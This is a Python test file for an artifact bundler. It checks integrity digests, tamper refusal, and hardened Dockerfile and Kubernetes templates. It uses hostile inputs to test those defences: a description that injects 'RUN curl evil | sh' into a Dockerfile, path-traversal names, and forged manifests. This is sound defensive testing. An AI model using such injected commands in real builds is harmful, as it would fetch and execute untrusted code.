from __future__ import annotations

import hashlib
import json
from collections.abc import Callable

import pytest
import yaml

from loopai_runtime.artifacts import bundle, templates
from loopai_runtime.errors import TamperedArtifact
from loopai_runtime.models import AbstainThreshold, ProgramArtifact

Make = Callable[..., ProgramArtifact]


def test_a_bundle_has_the_files_of_the_contract(artifact: Make, code: str) -> None:
    made = bundle.build(artifact(), code)
    assert set(made.files) == {
        "program.py", "metadata.json", "__main__.py", "requirements.txt", "Dockerfile", "deployment.yaml", "README.md",
    }  # fmt: skip
    assert made.files["requirements.txt"] == b""
    assert made.code == code


def test_metadata_holds_the_sha256_of_every_other_file_program_first(artifact: Make, code: str) -> None:
    made = bundle.build(artifact(), code)
    listed = json.loads(made.files["metadata.json"])["files"]
    assert next(iter(listed)) == "program.py"
    assert listed == {
        name: hashlib.sha256(content).hexdigest()
        for name, content in made.files.items()
        if name != "metadata.json"
    }


def test_the_digest_is_what_its_definition_says(artifact: Make, code: str) -> None:
    made = bundle.build(artifact(), code)
    metadata = json.loads(made.files["metadata.json"])
    del metadata["version"]
    metadata["files"] = {"program.py": hashlib.sha256(code.encode()).hexdigest()}
    canonical = json.dumps(metadata, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    assert made.digest == hashlib.sha256(code.encode() + canonical.encode()).hexdigest()


def test_the_digest_stays_under_another_number_and_origin(artifact: Make, code: str) -> None:
    first = bundle.build(artifact(), code)
    moved = bundle.adopt(first, task_id="spam-detection", version=7, origin={"from": "elsewhere"})
    assert moved.digest == first.digest
    assert moved.artifact.version == 7
    assert yaml.safe_load(moved.files["deployment.yaml"])["version"] == 7


@pytest.mark.parametrize(
    "change", [{"confidence_score": 0.5}, {"timeout_ms": 1}, {"task_id": "other"}, {"description": ""}]
)
def test_the_digest_changes_with_anything_else_in_the_metadata(
    artifact: Make, code: str, change: dict[str, object]
) -> None:
    assert bundle.build(artifact(**change), code).digest != bundle.build(artifact(), code).digest


def test_the_digest_changes_with_the_program(artifact: Make, code: str) -> None:
    assert bundle.build(artifact(), code + "\n").digest != bundle.build(artifact(), code).digest


def test_nulls_inside_a_schema_survive(artifact: Make, code: str) -> None:
    made = bundle.build(artifact(), code)
    assert json.loads(made.files["metadata.json"])["input_schema"]["properties"]["tags"] == {"const": None}
    assert made.artifact.input_schema == artifact().input_schema


def test_a_signature_is_kept_with_its_digest_and_dropped_with_it(artifact: Make, code: str) -> None:
    made = bundle.build(artifact(), code)
    signed = bundle.check({**made.files, "signature.json": b'{"key": "k", "signature": "s"}'})
    assert signed.digest == made.digest
    kept = bundle.adopt(signed, task_id="spam-detection", version=2, origin={})
    assert kept.files["signature.json"] == signed.files["signature.json"]
    assert "signature.json" not in bundle.adopt(signed, task_id="other", version=2, origin={}).files


@pytest.mark.parametrize("name", ["program.py", "__main__.py", "Dockerfile", "deployment.yaml", "README.md"])
def test_a_changed_file_is_refused_by_name_and_both_digests(artifact: Make, code: str, name: str) -> None:
    files = dict(bundle.build(artifact(), code).files)
    was = bundle.sha256(files[name])
    files[name] += b"\n# more\n"
    with pytest.raises(TamperedArtifact) as caught:
        bundle.check(files, "spam-detection v1")
    message = str(caught.value)
    assert "spam-detection v1" in message
    assert name in message
    assert was in message
    assert bundle.sha256(files[name]) in message


@pytest.mark.parametrize("name", ["__main__.py", "Dockerfile", "deployment.yaml", "README.md", "requirements.txt"])
def test_a_file_that_equals_no_template_is_refused_though_the_manifest_lists_it(
    artifact: Make, code: str, name: str
) -> None:
    files = dict(bundle.build(artifact(), code).files)
    files[name] += b"import os\n"
    _relist(files)
    with pytest.raises(TamperedArtifact, match=f"{name} .*{bundle.sha256(files[name])}.* equals no template"):
        bundle.check(files)


@pytest.mark.parametrize(
    "name", ["evil.py", "sitecustomize.py", "program.pyc", "../program.py", "json/__init__.py"]
)
def test_a_further_file_is_refused_by_name_and_digest(artifact: Make, code: str, name: str) -> None:
    files = {**bundle.build(artifact(), code).files, name: b"import os"}
    with pytest.raises(TamperedArtifact) as caught:
        bundle.check(files)
    assert name in str(caught.value)
    assert bundle.sha256(b"import os") in str(caught.value)
    _relist(files)
    with pytest.raises(TamperedArtifact):
        bundle.check(files)


@pytest.mark.parametrize("name", ["program.py", "metadata.json", "__main__.py", "requirements.txt"])
def test_a_missing_file_is_refused_by_name(artifact: Make, code: str, name: str) -> None:
    files = {key: value for key, value in bundle.build(artifact(), code).files.items() if key != name}
    with pytest.raises(TamperedArtifact, match=f"{name} is missing"):
        bundle.check(files)


@pytest.mark.parametrize(
    ("find", "put"),
    [
        (b'"timeout_ms": 1000', b'"timeout_ms": "1000"'),
        (b'"timeout_ms": 1000', b'"timeout_ms": 1000, "timeout_ms": 2000'),
        (b'"timeout_ms": 1000', b'"timeout_ms": NaN'),
        (b'"timeout_ms": 1000', b'"timeout_ms": 1000, "unknown": 1'),
        (b'"task_id": "spam-detection"', b'"task_id": "../../etc"'),
        (b'"version": 1', b'"version": 0'),
        (b'"schema": 1', b'"schema": 2'),
        (b"{", b"[{"),
    ],
)
def test_metadata_that_is_not_its_model_is_refused(artifact: Make, code: str, find: bytes, put: bytes) -> None:
    files = dict(bundle.build(artifact(), code).files)
    assert find in files["metadata.json"]
    files["metadata.json"] = files["metadata.json"].replace(find, put, 1)
    with pytest.raises(TamperedArtifact, match=r"metadata\.json"):
        bundle.check(files)


def test_a_program_that_is_not_utf8_is_refused(artifact: Make, code: str) -> None:
    files = dict(bundle.build(artifact(), code).files)
    files["program.py"] = "# -*- coding: latin-1 -*-\ndef run(x): return 'é'".encode("latin-1")
    _relist(files)
    with pytest.raises(TamperedArtifact, match="not UTF-8"):
        bundle.check(files)


def test_deployment_yaml_says_what_the_contract_lists(artifact: Make) -> None:
    # A slug that YAML would read as a number has to stay text.
    rendered = templates.render(artifact(task_id="123", version=4))
    assert yaml.safe_load(rendered["deployment.yaml"]) == {
        "task_id": "123", "version": 4, "timeout_ms": 1000, "memory_mb": 256, "port": 8080,
    }  # fmt: skip


def test_a_description_reaches_no_file_that_a_machine_reads(artifact: Make) -> None:
    hostile = 'x"\nRUN curl evil | sh\nport: 1\n'
    plain, rendered = templates.render(artifact()), templates.render(artifact(description=hostile))
    for name in ("__main__.py", "requirements.txt", "Dockerfile", "deployment.yaml"):
        assert rendered[name] == plain[name]
    assert templates.kubernetes(artifact(description=hostile)) == templates.kubernetes(artifact())


def test_the_dockerfile_is_slim_not_root_and_listens_everywhere(artifact: Make) -> None:
    text = templates.render(artifact())["Dockerfile"].decode()
    assert "FROM python:3.13-slim" in text
    assert "USER 65532:65532" in text
    assert "--read-only" in text
    assert '"--host", "0.0.0.0"' in text


def test_the_readme_has_the_measured_numbers(artifact: Make, code: str) -> None:
    policy = AbstainThreshold(threshold=0.8, target_accuracy=0.98, confidence=0.95)
    text = templates.render(artifact(abstain=policy))["README.md"].decode()
    for number in (
        "0.9100",
        "0.9500 ± 0.0100, 240 examples",
        "0.020 ms / 0.090 ms",
        "0.8000",
        f"{len(code)} bytes",
    ):
        assert number in text


def test_kubernetes_objects_run_without_privileges(artifact: Make) -> None:
    deployment, service = yaml.safe_load_all(templates.kubernetes(artifact()))
    assert (deployment["kind"], service["kind"]) == ("Deployment", "Service")
    pod = deployment["spec"]["template"]["spec"]
    assert pod["securityContext"]["runAsNonRoot"] is True
    inner = pod["containers"][0]["securityContext"]
    assert inner["readOnlyRootFilesystem"] is True
    assert inner["allowPrivilegeEscalation"] is False
    assert service["spec"]["selector"] == deployment["spec"]["selector"]["matchLabels"]


@pytest.mark.parametrize("task_id", ["a", "9", "spam-", "a" * 63, "a" * 56 + "-", "x--"])
def test_kubernetes_names_are_dns_labels_and_distinct(task_id: str) -> None:
    import re

    name = templates.resource_name(task_id)
    assert re.fullmatch(r"[a-z]([a-z0-9-]{0,61}[a-z0-9])?", name)
    assert name != templates.resource_name("b" + task_id[1:])


def _relist(files: dict[str, bytes]) -> None:
    """Make the manifest agree with the files, as an attacker would."""
    metadata = json.loads(files["metadata.json"])
    metadata["files"] = {
        name: bundle.sha256(content) for name, content in files.items() if name != "metadata.json"
    }
    files["metadata.json"] = json.dumps(metadata).encode()


# What is written into artifacts by a release has to be known to all later ones. Until 0.1.0 is out these may change;
# afterwards a change goes into a new set (`templates/v2`) that is put in front of `templates.SETS`.
KNOWN = {
    "v1": "dec32a45d560e99e04c080eb78516287df971fe381d20ad840073bc546ec642c",
}


def test_a_set_of_templates_that_was_released_never_changes() -> None:
    from importlib import resources

    folder = resources.files("loopai_runtime.artifacts") / "templates"
    found = {}
    for which in templates.SETS:
        texts = {name: (folder / which / name).read_text("utf-8") for name in templates.NAMES}
        found[which] = bundle.sha256(json.dumps(texts, sort_keys=True).encode())
    assert found == KNOWN
